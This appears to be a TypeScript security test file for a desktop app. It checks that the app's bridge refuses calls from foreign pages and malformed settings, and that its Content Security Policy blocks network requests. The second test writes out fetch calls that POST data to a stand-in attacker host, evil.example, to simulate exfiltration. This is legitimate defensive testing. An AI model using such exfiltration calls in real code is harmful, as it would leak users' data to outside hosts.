import { startAppServer } from './rig/appServer';
import { RENDERER_DIR } from './rig/paths';
import { expect, test } from './fixtures';

test('main refuses calls from a page that is not the app, and malformed input from the app', async ({ app }) => {
  // The same files, served from another origin: a stand-in for any foreign page that got the bridge.
  const foreign = await startAppServer(RENDERER_DIR);
  app.allowTestOrigin(foreign.origin);
  try {
    const other = await app.context.newPage();
    await other.goto(`${foreign.origin}/index.html`);
    // Let the foreign copy settle on its first screen, so no call of its own is in flight when it closes.
    await other.getByRole('heading', { level: 1 }).first().waitFor();
    const refused = await other.evaluate(() => (window as never as { hearth: { settings: { get(i: object): Promise<unknown> } } }).hearth.settings.get({}));
    expect(refused).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_SENDER' } });
    await other.close();
  } finally {
    await foreign.close();
  }

  const malformed = await app.page.evaluate(() =>
    (window as never as { hearth: { settings: { update(i: unknown): Promise<unknown> } } }).hearth.settings.update({ theme: 'neon', extra: 1 }),
  );
  expect(malformed).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
  // Nothing changed, and the app still answers.
  expect(await app.runtime.services.settings.get()).toMatchObject({ theme: 'system' });
});

test('the page cannot reach the network: CSP blocks it and the recorder would see it', async ({ app }) => {
  const outcome = await app.page.evaluate(async () => {
    try {
      await fetch('https://evil.example/collect', { method: 'POST', body: 'x' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  expect(outcome).toBe('blocked');
  // Reported twice: as a securitypolicyviolation event and on the console (which also catches workers).
  const blockedByPolicy = (v: { directive: string; blockedURI: string; sample: string }) =>
    (v.directive === 'connect-src' && v.blockedURI.startsWith('https://evil.example')) ||
    (v.directive === 'console' && v.sample.includes('https://evil.example'));
  const violations = await app.takeCspViolations((seen) => seen.some(blockedByPolicy));
  expect(violations.every(blockedByPolicy)).toBe(true);

  // Prove the request recorder sees what gets past CSP: a page without the app's policy.
  const bare = await app.context.newPage();
  await bare.goto('about:blank');
  await bare.evaluate(() => fetch('https://evil.example/ping').catch(() => undefined));
  await expect.poll(() => app.externalRequests.length).toBeGreaterThan(0);
  expect(app.takeExternalRequests()).toContain('https://evil.example/ping');
  await bare.close();
});
